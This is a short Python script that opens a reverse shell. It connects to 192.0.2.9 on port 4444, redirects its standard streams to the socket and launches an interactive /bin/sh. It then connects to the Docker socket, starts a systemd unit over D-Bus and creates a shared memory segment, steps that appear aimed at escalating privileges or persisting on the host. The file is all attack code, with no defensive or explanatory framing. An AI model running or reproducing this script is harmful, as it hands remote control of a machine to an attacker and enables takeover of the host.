#!/usr/bin/env python3
import os, socket, subprocess
import dbus
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.9", 4444))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-i"])
u = socket.socket(socket.AF_UNIX)
u.connect("/var/run/docker.sock")
bus = dbus.SystemBus()
m = dbus.Interface(bus.get_object("org.freedesktop.systemd1", "/org/freedesktop/systemd1"), "org.freedesktop.systemd1.Manager")
m.StartUnit("a.service", "replace")
from multiprocessing import shared_memory
shared_memory.SharedMemory(name="psm_x", create=True, size=64)
